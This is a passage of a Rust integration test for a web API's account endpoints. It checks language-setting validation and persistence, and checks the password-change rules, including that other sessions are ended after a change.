        // The language is the user's, wherever they sign in; null is the browser's again.
        let set = |body: Value| user.ok("PATCH", "/api/v1/me/settings", Some(body));
        assert_eq!(
            set(json!({"language": "en"}))["language"],
            "en",
            "{backend}"
        );
        assert_eq!(
            elsewhere.ok("GET", "/api/v1/me", None)["settings"]["language"],
            "en"
        );
        assert_eq!(set(json!({}))["language"], "en", "absent: unchanged");
        user.fails(
            "PATCH",
            "/api/v1/me/settings",
            Some(json!({"language": "de"})),
            422,
            "language",
        );
        assert_eq!(set(json!({"language": "ru"}))["language"], "ru");
        assert_eq!(set(json!({"language": null}))["language"], Value::Null);
        assert_eq!(
            user.ok("GET", "/api/v1/me", None)["settings"]["language"],
            Value::Null
        );

        // The password: the current one first, the rule for the new one, nothing changed
        // by a failure.
        let put = |body: Value, status: u16, field: &str| {
            user.fails("PUT", "/api/v1/me/password", Some(body), status, field)
        };
        put(
            json!({"current": "not-my-password", "new": "password-2"}),
            403,
            "current",
        );
        put(json!({"current": "password-1", "new": "short"}), 422, "new");
        put(
            json!({"current": "password-1", "new": "x".repeat(1025)}),
            422,
            "new",
        );
        put(json!({"current": "password-1"}), 422, "new");
        elsewhere.ok("GET", "/api/v1/me", None);
        let (status, v) = user.call(
            "PUT",
            "/api/v1/me/password",
            Some(json!({"current": "password-1", "new": "password-2"})),
        );
        assert_eq!(status, 204, "{backend}: {v}");
        // This session stays; the other browser is signed out; the old password is gone.
        user.ok("GET", "/api/v1/me", None);
        let (status, _) = elsewhere.call("GET", "/api/v1/me", None);
        assert_eq!(status, 401, "{backend}: the other session ended");
        let login = |password: &str| {
            server
                .http(
                    "POST",
                    "/api/v1/session",
                    &[],
                    &json!({"login": "plain", "password": password}).to_string(),
                )
                .0
        };
        assert_eq!(login("password-1"), 401, "{backend}");
        assert_eq!(login("password-2"), 200, "{backend}");
        let (status, _, _) = server.http("GET", "/api/v1/me", &[], "");
        assert_eq!(status, 401);
    });
}
